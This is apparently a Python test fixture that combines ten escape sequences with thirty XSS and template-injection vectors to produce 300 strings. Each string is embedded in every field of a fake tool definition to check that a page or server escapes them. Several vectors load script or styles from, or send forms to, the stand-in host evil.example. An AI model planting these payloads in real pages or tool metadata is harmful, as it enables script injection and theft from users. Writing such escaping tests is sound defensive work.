"""Three hundred texts that try to become markup, script, style or an address."""

from __future__ import annotations

from itertools import product
from typing import Any, Final

# Ways to break out of an attribute, an element, a comment or a template, which a page must prevent.
OPENERS: Final = (
    "",
    '">',
    "'>",
    "-->",
    "</script>",
    "</title>",
    "</textarea></select>",
    "`}}",
    "]]>",
    "\u202e",
)
VECTORS: Final = (
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>go</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>ok</button></form>",
    "<div hx-get=/overview/ hx-trigger=load></div>",
    "<div hx-on:htmx:load=alert(1)></div>",
    "<div x-data x-init=alert(1)></div>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<p style=position:fixed;inset:0>over everything</p>",
    "<template><script>alert(1)</script></template>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include 'base.html' %}",
    "${alert(1)}",
    "javascript:alert(1)",
    " onmouseover=alert(1) x=",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\u2028</script\u2028><b>bold</b>",
    "<b>bold</b><!--",
)
PAYLOADS: Final = tuple(opener + vector for opener, vector in product(OPENERS, VECTORS))


def hostile_tools() -> list[dict[str, Any]]:
    """One tool for each text, which appears in everything the server says about it."""
    return [
        {
            "name": text,
            "title": text,
            "description": f"{text}\n{text}",
            "inputSchema": {
                "type": "object",
                "properties": {text: {"type": "string", "description": text, "enum": [text]}},
            },
            "annotations": {"title": text},
        }
        for text in PAYLOADS
    ]
